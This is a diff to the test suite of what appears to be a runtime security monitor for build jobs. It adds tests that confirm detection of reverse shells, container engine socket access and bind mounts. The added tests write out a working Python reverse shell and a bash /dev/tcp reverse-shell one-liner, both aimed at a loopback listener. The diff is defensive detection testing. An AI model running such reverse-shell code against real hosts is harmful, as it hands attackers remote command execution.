@@ -5,8 +5,10 @@ lockdown, and ordinary build jobs that must raise none. Network: loopback only."
 import base64
 import json
 import os
+import socket
 import subprocess
 import sys
+import threading
 import time
 import unittest
 
@@ -45,6 +47,21 @@ for i in range(n):
         s.recvfrom(1024)
     except OSError:
         pass
+"""
+
+# A reverse shell: connect, the connection as stdin and stdout, a shell.
+RSH = """
+import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.execv('/bin/sh', ['sh', '-c', 'echo pwned'])
+"""
+
+UNIX = """
+import socket, sys
+for p in sys.argv[1:]:
+    socket.socket(socket.AF_UNIX).connect(p)
 """
 
 # A beacon left behind: the job's command returns at once, its child connects afterwards.
@@ -239,6 +256,95 @@ class FindingsTest(RwTestCase):
         r = self.rw(["sh", "-c", script, "sh", env, path])
         self.assertEqual(r.rc, 0, r.stderr)
         self.assertEqual(self.findings(r), [])
+
+    # ------------------------------------------------------------ host access
+
+    def test_reverse_shell_python(self):
+        srv = socket.socket()
+        srv.bind(("127.0.20.8", 0))
+        srv.listen(1)
+        self.addCleanup(srv.close)
+        port = srv.getsockname()[1]
+        got = []
+
+        def serve():
+            c = srv.accept()[0]
+            got.append(c.recv(100))
+            c.close()
+        t = threading.Thread(target=serve)
+        t.start()
+        r = self.rw([sys.executable, "-c", RSH, "127.0.20.8", str(port)])
+        t.join(10)
+        self.assertEqual(got, [b"pwned\n"])  # the shell really ran on the connection
+        (f,) = self.findings(r, "reverse_shell")
+        self.assertEqual(f["severity"], "critical")
+        self.assertTrue(f["stdin"] and f["stdout"] and f["interpreter"])
+        self.assertIn(f"127.0.20.8:{port}", f["connection"])
+        self.assert_evidence(r, f, {"exec", "connect"})
+        (ex,) = [e for e in r.of("exec") if e["pid"] == f["pid"] and e.get("stdio_inet")]
+        self.assertEqual(ex["stdio_inet"], ["stdin", "stdout"])
+
+    def test_reverse_shell_bash_dev_tcp(self):
+        srv = socket.socket()
+        srv.bind(("127.0.20.8", 0))
+        srv.listen(1)
+        self.addCleanup(srv.close)
+        port = srv.getsockname()[1]
+        def serve():
+            c = srv.accept()[0]
+            c.sendall(b"exit\n")
+            c.close()
+        t = threading.Thread(target=serve)
+        t.start()
+        r = self.rw(["bash", "-c", f"bash -i >& /dev/tcp/127.0.20.8/{port} 0>&1"])
+        t.join(10)
+        (f,) = self.findings(r, "reverse_shell")
+        self.assertTrue(f["exe"].endswith("/bash"), f)
+
+    def test_pipes_and_unix_socketpairs_are_no_reverse_shell(self):
+        # npm and node start scripts with unix socket pairs as stdio (libuv)
+        script = ("import socket, subprocess\n"
+                  "a, b = socket.socketpair()\n"
+                  "subprocess.run(['sh', '-c', 'echo hi'], stdin=a, stdout=a)\n"
+                  "subprocess.run(['sh', '-c', 'echo hi | cat'])\n")
+        r = self.rw([sys.executable, "-c", script])
+        self.assertEqual(r.rc, 0, r.stderr)
+        self.assertEqual(self.findings(r), [])
+
+    def test_container_engine_socket(self):
+        path = os.path.join(self.tmp, "run", "docker.sock")
+        os.makedirs(os.path.dirname(path))
+        other = os.path.join(self.tmp, "run", "app.sock")
+        servers = []
+        for p in (path, other):
+            u = socket.socket(socket.AF_UNIX)
+            u.bind(p)
+            u.listen(4)
+            self.addCleanup(u.close)
+            servers.append(u)
+        r = self.rw([sys.executable, "-c", UNIX, path, other])
+        self.assertEqual(r.rc, 0, r.stderr)
+        self.assertEqual(sorted(e["path"] for e in r.of("unix_connect")), sorted([path, other]))
+        (f,) = self.findings(r, "container_engine")
+        self.assertEqual(f["socket"], path)
+        self.assertEqual(f["severity"], "high")
+        self.assertTrue(f["succeeded"])
+        self.assert_evidence(r, f, {"unix_connect"})
+
+    def test_bind_mount(self):
+        a, b = os.path.join(self.tmp, "a"), os.path.join(self.tmp, "b")
+        os.makedirs(a)
+        os.makedirs(b)
+        r = self.rw(["unshare", "-m", "sh", "-c", f"mount --bind {a} {b} && "
+                     f"mount -t tmpfs none {b}"])
+        self.assertEqual(r.rc, 0, r.stderr)
+        fs = self.findings(r, "mount")
+        self.assertEqual(len(fs), 2, fs)  # not unshare's propagation change
+        bind = [f for f in fs if f["bind"]][0]
+        self.assertEqual((bind["source"], bind["target"], bind["severity"]), (a, b, "high"))
+        tmpfs = [f for f in fs if not f["bind"]][0]
+        self.assertEqual((tmpfs["fstype"], tmpfs["severity"]), ("tmpfs", "medium"))
+        self.assert_evidence(r, bind, {"mount"})
 
     # ------------------------------------------------------------ lockdown
 
